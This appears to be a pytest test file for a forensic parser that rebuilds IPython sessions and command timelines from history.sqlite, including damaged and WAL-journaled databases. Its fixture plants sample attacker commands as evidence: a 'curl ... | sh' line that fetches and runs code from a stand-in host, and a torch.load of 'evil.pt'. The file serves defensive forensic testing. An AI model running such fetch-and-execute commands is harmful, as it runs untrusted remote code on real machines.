"""IPython history.sqlite written by IPython's own HistoryManager: sessions, lines placed inside
their session (estimated, bounds stated), local times converted with the host's zone, and what
SQLite can still read from damaged or half-written databases."""

import os
import shutil
import sqlite3
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest
from parser_helpers import T0, errors, of, put, run

from mlsleuth.events import TimestampQuality

HIST = "/home/alice/.ipython/profile_default/history.sqlite"


def ipython_db(path: Path, sessions: list[list[str]], *, close_last: bool = False) -> Path:
    """Write a history database with IPython's HistoryManager (the real producer)."""
    from IPython.core.history import HistoryManager
    from IPython.core.interactiveshell import InteractiveShellABC

    class Shell:  # the few attributes HistoryManager touches
        user_ns: dict = {}
        displayhook = None
        profile_dir = None

        def push(self, *args, **kwargs):
            pass

    InteractiveShellABC.register(Shell)
    path.parent.mkdir(parents=True, exist_ok=True)
    manager = HistoryManager(shell=Shell(), hist_file=str(path))
    try:
        for number, lines in enumerate(sessions):
            if number:
                manager.new_session()
            for i, line in enumerate(lines, 1):
                manager.store_inputs(i, line)
            manager.writeout_cache()
            if number < len(sessions) - 1 or close_last:
                manager.end_session()
    finally:
        if hasattr(manager, "close"):
            manager.close()
    return path


def set_times(path: Path, times: dict[int, tuple[str, str | None]]) -> None:
    """Put the sessions at known times, in the textual forms IPython writes (start naive local,
    end UTC with +00:00 since IPython 9)."""
    db = sqlite3.connect(path)
    with db:
        for session, (start, end) in times.items():
            db.execute("UPDATE sessions SET start=?, end=? WHERE session=?", (start, end, session))
    db.close()


@pytest.fixture()
def history(tmp_path):
    db = ipython_db(tmp_path / HIST.lstrip("/"), [
        ["import torch", "m = torch.load('evil.pt')", "m.eval()"],
        ["from transformers import AutoModel", 'AutoModel.from_pretrained("org/x")'],
        ["!curl -s http://x.example/p | sh"],
    ])
    set_times(db, {1: ("2026-11-10 10:00:00.000000", "2026-11-10 09:10:00+00:00"),
                   2: ("2026-11-10 10:20:00", None),
                   3: ("2026-11-10 10:40:00.5", None)})
    os.utime(db, (T0.timestamp() + 3600, T0.timestamp() + 3600))
    return tmp_path


def test_sessions_and_lines_with_host_timezone(history):
    events = run(history, HIST, "ipython_history", tz="Europe/Berlin")
    assert not errors(events)
    starts = of(events, "IPython Session Started")
    assert [e.timestamp for e in starts] == [
        datetime(2026, 11, 10, 9, 0, tzinfo=UTC), datetime(2026, 11, 10, 9, 20, tzinfo=UTC),
        datetime(2026, 11, 10, 9, 40, 0, 500000, tzinfo=UTC)]
    assert starts[0].extra["assumed_tz"] == "Europe/Berlin" and starts[0].extra["tz_source"] == "--tz"
    ends = of(events, "IPython Session Ended")
    assert [e.timestamp for e in ends] == [datetime(2026, 11, 10, 9, 10, tzinfo=UTC)]  # +00:00 read as UTC
    lines = of(events, "Command Executed")
    assert [e.cmdline for e in lines] == ["import torch", "m = torch.load('evil.pt')", "m.eval()",
                                          "from transformers import AutoModel",
                                          'AutoModel.from_pretrained("org/x")', "!curl -s http://x.example/p | sh"]
    assert {e.timestamp_quality for e in lines} == {TimestampQuality.ESTIMATED}
    # session 1 lines spread from start to end
    assert [e.timestamp.minute for e in lines[:3]] == [0, 5, 10]
    # session 2 did not close: bounded by session 3's start
    assert lines[4].timestamp == datetime(2026, 11, 10, 9, 40, 0, 500000, tzinfo=UTC)
    assert lines[3].extra["session_end_source"].startswith("next session start")
    # the last, unclosed session is bounded by the database's mtime
    assert lines[5].extra["session_end_source"].startswith("database file mtime")
    assert lines[1].evidence.endswith("history.sqlite#history:session=1,line=2")
    for e in lines:
        assert datetime.fromisoformat(e.extra["session_start"]) <= e.timestamp <= datetime.fromisoformat(
            e.extra["session_end"])


def test_no_timezone_known_means_utc_and_says_so(history):
    events = run(history, HIST, "ipython_history")
    start = of(events, "IPython Session Started")[0]
    assert start.timestamp == datetime(2026, 11, 10, 10, 0, tzinfo=UTC)
    assert start.extra["assumed_tz"] == "UTC" and "no timezone" in start.extra["tz_source"]


def test_host_timezone_from_etc_timezone_wins_over_assumed(history):
    put(history, "/etc/timezone", "America/New_York\n")
    events = run(history, HIST, "ipython_history", tz="Europe/Berlin")
    start = of(events, "IPython Session Started")[0]
    assert start.timestamp == datetime(2026, 11, 10, 15, 0, tzinfo=UTC)
    assert start.extra["tz_source"] == "etc/timezone"


def test_truncated_database_yields_what_is_readable(tmp_path):
    db = ipython_db(tmp_path / HIST.lstrip("/"),
                    [[f"x{i} = {'y' * 300}" for i in range(400)], ["last = 1"]], close_last=True)
    data = db.read_bytes()
    db.write_bytes(data[: len(data) // 2])
    events = run(tmp_path, HIST, "ipython_history")
    assert errors(events), "a damaged database must be reported"
    lines = of(events, "Command Executed")
    assert 0 < len(lines) < 401


def test_damaged_middle_page_rows_after_it_are_recovered(tmp_path):
    db = ipython_db(tmp_path / HIST.lstrip("/"), [[f"line_{i} = '{'z' * 500}'" for i in range(300)]],
                    close_last=True)
    raw = bytearray(db.read_bytes())
    page = sqlite3.connect(db).execute("PRAGMA page_size").fetchone()[0]
    pages = len(raw) // page
    middle = pages // 2
    raw[middle * page:(middle + 1) * page] = b"\xde\xad" * (page // 2)
    db.write_bytes(bytes(raw))
    events = run(tmp_path, HIST, "ipython_history")
    texts = [e.cmdline for e in of(events, "Command Executed")]
    assert errors(events)
    assert texts and texts[0].startswith("line_0 ")
    assert any(t.startswith("line_299 ") for t in texts), "rows after the damaged page are read"
    assert len(texts) < 300


def test_not_a_database_is_a_parse_error(tmp_path):
    put(tmp_path, HIST, b"SQLite format 2\x00 but not really" * 50, mtime=T0)
    events = run(tmp_path, HIST, "ipython_history")
    assert len(events) == 1 and "SQLite" in events[0].message


def test_uncheckpointed_wal_is_replayed_on_a_private_copy(tmp_path):
    db_path = tmp_path / HIST.lstrip("/")
    ipython_db(db_path, [["first = 1"]])
    live = sqlite3.connect(db_path)
    live.execute("PRAGMA journal_mode=WAL")
    live.execute("PRAGMA wal_autocheckpoint=0")
    with live:
        live.execute("INSERT INTO history VALUES (1, 2, 'from_wal = 2', 'from_wal = 2')")
    # Copy the files as the collector does while the writer still holds the WAL.
    copy_root = tmp_path / "copy"
    for suffix in ("", "-wal"):
        target = copy_root / (HIST.lstrip("/") + suffix)
        target.parent.mkdir(parents=True, exist_ok=True)
        shutil.copy2(str(db_path) + suffix, target)
    live.close()
    before = sorted(p.name for p in (copy_root / HIST.lstrip("/")).parent.iterdir())
    events = run(copy_root, HIST, "ipython_history")
    assert [e.cmdline for e in of(events, "Command Executed")] == ["first = 1", "from_wal = 2"]
    assert of(events, "Command Executed")[0].extra["read_from"] == "wal-replayed copy"
    after = sorted(p.name for p in (copy_root / HIST.lstrip("/")).parent.iterdir())
    assert before == after, "nothing may be created next to the evidence"
    for suffix in ("", "-wal"):  # and the evidence bytes did not change
        assert (copy_root / (HIST.lstrip("/") + suffix)).stat().st_size > 0


def test_sibling_files_are_not_parsed_on_their_own(tmp_path):
    put(tmp_path, HIST + "-wal", b"\x37\x7f\x06\x82" + b"\x00" * 100, mtime=T0)
    assert run(tmp_path, HIST + "-wal", "ipython_history") == []


def test_estimates_stay_within_bounds_when_end_precedes_start(tmp_path):
    db = ipython_db(tmp_path / HIST.lstrip("/"), [["a = 1", "b = 2"]], close_last=True)
    set_times(db, {1: ("2026-11-10 10:00:00", "2026-11-10 09:00:00+00:00")})  # clock jumped back
    events = run(tmp_path, HIST, "ipython_history", tz="UTC")
    lines = of(events, "Command Executed")
    assert {e.timestamp for e in lines} == {datetime(2026, 11, 10, 10, 0, tzinfo=UTC)}
    assert "placed at session start" in lines[0].extra["time_note"]
    assert lines[0].timestamp - timedelta(0) == of(events, "IPython Session Started")[0].timestamp
